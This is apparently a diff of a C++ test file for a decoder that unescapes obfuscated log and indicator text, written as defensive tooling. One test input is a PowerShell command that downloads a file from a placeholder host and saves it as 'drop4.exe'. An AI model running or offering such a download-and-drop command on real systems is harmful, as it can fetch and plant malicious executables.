@@ -18,10 +18,9 @@ std::string decoded(std::string_view text) {
 bool asks(const std::string& text) {
   std::string low = lower(text);
   low.append(kMaskPadding, '\0');
-  const std::string_view view(low.data(), text.size());
   std::vector<ByteMasks> masks;
-  classify(view, masks);
-  return is_escaped(view, masks);
+  classify(std::string_view(low.data(), text.size()), masks);
+  return is_escaped(text, masks);
 }
 
 TEST(Unescaped, DecodesWhatStandsForSomethingElse) {
@@ -31,9 +30,35 @@ TEST(Unescaped, DecodesWhatStandsForSomethingElse) {
   EXPECT_EQ(decoded("evil\u3002example \uff0e \uff61"), "evil.example . .");
 }
 
-TEST(Unescaped, LeavesTheRest) {
+TEST(Unescaped, DecodesWhatLoggersWrite) {
+  EXPECT_EQ(decoded(R"(1#011Security#012e40.example#0331)"), "1\tSecurity\ne40.example\0331");
+  EXPECT_EQ(decoded(R"(sum of file\nc157\nfrom\tevil.example\r)"), "sum of file\nc157\nfrom\tevil.example\r");
+  EXPECT_EQ(decoded(R"({"from":"\u003cq@d4.example\u003e","a":"\u00e4"})"),
+            "{\"from\":\"<q@d4.example>\",\"a\":\"\u00e4\"}");
+  EXPECT_EQ(decoded(R"(iwr \"http://e4.example/x\" -OutFile \"drop4.exe\")"),
+            R"(iwr "http://e4.example/x" -OutFile "drop4.exe")");
+  EXPECT_EQ(decoded(R"(/?q=\x22n1.example\x22&h=\x22x)"), "/?q=\"n1.example\"&h=\"x");
+  EXPECT_EQ(decoded(R"(\\\"a.example\\\" x\\nb)"), "\"a.example\" x\nb");
+  EXPECT_EQ(decoded("href=&quot;http://a.example/&quot; &lt;b&#62;&#x3c;&amp;"), "href=\"http://a.example/\" <b><&");
+  EXPECT_EQ(decoded("\x1b[1;31mevil.example\x1b[0m ^[[1mx \\033[0m"), "\"evil.example\" \"x \x1b[0m");
+  EXPECT_EQ(decoded("(3)www(4)evil(7)example(0)"), ".www.evil.example(0)");
+  EXPECT_EQ(decoded("\uff08evil\uff1acjk.dll\u3011\u2502x"), "(evil:cjk.dll\"\"x");
+  EXPECT_EQ(decoded("\u8fde\u63a5\u5230evil.example\u5931\u8d25"), "\u8fde\u63a5\"evil.example\"\u8d25");
+  EXPECT_EQ(decoded("C:\\e40\\x.exe\\n at java"), "C:\\e40\\x.exe\n at java");
+}
+
+TEST(Unescaped, LeavesWindowsPathsAlone) {
   for (const std::string_view text :
-       {"100% of 5%zz and %2", "%00%1f%7f%ff", "a[.b] [. ] (.}", "\u3003 \xe3\x80", "%%1833", "%25"}) {
+       {R"(C:\Windows\System32\ntdll.dll)", R"(C:\Program Files\new\x64\u0041.exe)", R"(\\nas\reports\x.exe)",
+        R"(\SystemRoot\system32\ntdll.dll)", R"(%TEMP%\new\t.exe)", R"(HKLM\Software\nt\run)", R"(..\a\new.exe)",
+        R"("C:\dir\" -x)", R"(cd "D:\new folder\")", R"(\REGISTRY\MACHINE\nt)"})
+    EXPECT_EQ(decoded(text), text);
+}
+
+TEST(Unescaped, LeavesTheRest) {
+  for (const std::string_view text : {"100% of 5%zz and %2", "%00%1f%7f%ff", "a[.b] [. ] (.}", "\u3003 \xe3\x80",
+                                      "%%1833", "%25", "#12 #0 #040", "&quo; &#; &#xd800; &#1234567;",
+                                      "(3)ab(0) (x86) (0)", "\x1b[ ^[[1x", "\u65e5\u672c.\u8a9e", "\\u00 \\xff \\a"}) {
     const std::string expected = text == "%25" ? "%" : std::string(text);  // decoded once
     EXPECT_EQ(decoded(text), expected);
   }
@@ -42,12 +67,17 @@ TEST(Unescaped, LeavesTheRest) {
 
 TEST(Unescaped, ABlockAsksExactlyWhereSomethingIsDecoded) {
   std::mt19937 random(5);
-  const std::vector<std::string> pieces{"a",       "%",   "2",    "e",        "%2e",
-                                        "[",       ".",   "]",    "(",        ")",
-                                        "{",       "}",   ":",    "@",        "[.]",
-                                        "(.)",     " ",   "\xe3", "\x80\x82", "\u3002",
-                                        "\uff0e",  "%3A", "%zz",  "[@]",      std::string(61, 'x'),
-                                        ":\\/\\/", "\\/", "\\"};
+  const std::vector<std::string> pieces{"a",       "%",     "2",    "e",        "%2e",
+                                        "[",       ".",     "]",    "(",        ")",
+                                        "{",       "}",     ":",    "@",        "[.]",
+                                        "(.)",     " ",     "\xe3", "\x80\x82", "\u3002",
+                                        "\uff0e",  "%3A",   "%zz",  "[@]",      std::string(61, 'x'),
+                                        ":\\/\\/", "\\/",   "\\",   "\\n",      "n",
+                                        "u003c",   "x22",   "\"",   "#0",       "11",
+                                        "&quot;",  "&#",    "60;",  "(4)",      "evil",
+                                        "(1)",     "\x1b[", "^[[",  "1m",       "\u4e2d",
+                                        "\u2502",  "\\\\",  "t",    "C:\\",     ".exe",
+                                        "0"};
   std::size_t asked = 0;
   for (int round = 0; round < 20'000; ++round) {
     std::string text;
